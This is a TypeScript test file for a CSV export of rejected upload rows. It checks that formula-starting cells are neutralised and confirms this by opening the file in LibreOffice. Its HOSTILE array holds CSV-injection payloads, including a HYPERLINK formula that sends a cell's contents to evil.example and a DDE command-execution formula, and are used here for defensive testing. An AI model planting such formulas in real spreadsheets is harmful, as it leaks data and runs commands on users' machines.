import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { rejectedRowsCsv } from '../../src/tables/rejected-rows-csv.js';

// Cells an outsider could have written in an uploaded list (OWASP "CSV injection" examples among them).
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+90 532 123 45 67',
  '+905321234567',
  '-2+3',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '=1+1\nsecond line',
  'Ayşe; "quoted" name',
];

const rows = HOSTILE.map((input, i) => ({ line: i + 2, input, reason: 'not a phone number' }));

describe('rejectedRowsCsv', () => {
  it('prefixes every cell that would start a formula with a quote, inside the CSV quotes', async () => {
    const text = Buffer.from(await rejectedRowsCsv(rows)).toString('utf8');
    expect(text.startsWith('\uFEFFLine;"Value";"Reason"\r\n')).toBe(true);
    const body = text.slice(text.indexOf('\r\n') + 2);
    expect(body).toBe(
      [
        `2;"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")";"not a phone number"`,
        `3;"'=cmd|' /C calc'!A0";"not a phone number"`,
        `4;"'+90 532 123 45 67";"not a phone number"`,
        `5;"'+905321234567";"not a phone number"`,
        `6;"'-2+3";"not a phone number"`,
        `7;"'@SUM(1,1)";"not a phone number"`,
        `8;"'\t=1+1";"not a phone number"`,
        `9;"'\r=1+1";"not a phone number"`,
        `10;"'=1+1\nsecond line";"not a phone number"`,
        `11;"Ayşe; ""quoted"" name";"not a phone number"`,
        '',
      ].join('\r\n'),
    );
  });

  it('neutralises a reason as well as a value', async () => {
    const text = Buffer.from(await rejectedRowsCsv([{ line: 2, input: 'x', reason: '=1+1' }])).toString();
    expect(text).toContain(`2;"x";"'=1+1"\r\n`);
  });
});

/** LibreOffice (headless, a profile of its own) and Debian's python3-openpyxl: an office reading the file. */
const soffice = ['/usr/bin/soffice', '/usr/local/bin/soffice'].find((p) => existsSync(p));
const python = '/usr/bin/python3';
const hasOpenpyxl = (() => {
  try {
    execFileSync(python, ['-c', 'import openpyxl'], { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
})();
const skipNote = soffice && hasOpenpyxl ? '' : ' (skipped: needs soffice and python3-openpyxl)';
const work = mkdtempSync(join(tmpdir(), 'rejected-csv-'));
afterAll(() => rmSync(work, { recursive: true, force: true }));

describe.skipIf(!soffice || !hasOpenpyxl)(`the rejected-rows file opened by LibreOffice${skipNote}`, () => {
  it('holds no formula, and shows each hostile cell as its text after the quote', async () => {
    const csv = join(work, 'list-rejected.csv');
    writeFileSync(csv, await rejectedRowsCsv(rows));
    // As Excel opens it: semicolons, double quotes, UTF-8, formulas evaluated, quoted fields not forced to text.
    execFileSync(
      soffice!,
      [
        `-env:UserInstallation=file://${join(work, 'profile')}`,
        '--headless',
        '--convert-to',
        'xlsx',
        '--infilter=CSV:59,34,76,1,,0,false,true',
        '--outdir',
        work,
        csv,
      ],
      { stdio: 'ignore', timeout: 60_000 },
    );
    const script = `
import json, sys, openpyxl
sheet = openpyxl.load_workbook(sys.argv[1]).active
print(json.dumps([[{"value": c.value, "type": c.data_type} for c in row] for row in sheet.iter_rows()]))`;
    const cells = JSON.parse(
      execFileSync(python, ['-c', script, join(work, 'list-rejected.xlsx')], { encoding: 'utf8' }),
    ) as { value: unknown; type: string }[][];
    expect(cells.flat().filter((c) => c.type === 'f')).toEqual([]);
    const values = cells.slice(1).map((row) => row[1]!.value);
    const dangerous = /^[=+\-@\t\r]/;
    expect(values).toEqual(
      // LibreOffice keeps a carriage return in a cell as a line feed.
      HOSTILE.map((v) => (dangerous.test(v) ? `'${v}` : v).replaceAll('\r', '\n')),
    );
  }, 90_000);
});
